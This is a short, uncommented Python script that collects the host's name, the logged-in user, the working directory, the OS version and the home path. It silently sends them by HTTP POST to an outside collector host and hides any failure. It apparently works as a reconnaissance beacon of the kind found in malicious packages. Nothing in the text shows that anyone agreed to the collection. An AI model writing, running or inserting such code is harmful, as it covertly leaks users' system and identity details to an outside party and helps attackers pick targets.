import getpass
import os
import platform
import socket

import requests

info = {
    "host": socket.gethostname(),
    "user": getpass.getuser(),
    "cwd": os.getcwd(),
    "os": platform.platform(),
    "home": os.path.expanduser("~"),
}

try:
    requests.post("https://collector.example-metrics.net/hello", json=info, timeout=3)
except requests.RequestException:
    pass
